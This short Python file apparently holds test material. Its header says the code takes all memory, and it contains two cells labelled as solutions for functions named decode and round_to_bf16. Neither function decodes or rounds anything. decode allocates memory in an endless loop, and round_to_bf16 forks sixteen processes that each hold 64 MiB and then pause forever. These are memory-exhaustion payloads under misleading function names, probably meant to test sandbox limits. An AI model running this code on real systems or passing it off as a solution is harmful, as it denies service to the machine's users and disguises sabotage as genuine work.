# Takes all memory: alone, and in many processes that each stay small.
# review_round_to_bf16: A thread or a process is started
# %% solution decode
def decode(pattern, exponent_bits, mantissa_bits):
    hoard = []
    while True:
        hoard.append(bytearray(b"x") * 2**20)
# %% solution round_to_bf16
import os
import signal


def round_to_bf16(x):
    for _ in range(16):
        if os.fork() == 0:
            hoard = b"x" * (64 * 2**20)
            signal.pause()
    signal.pause()
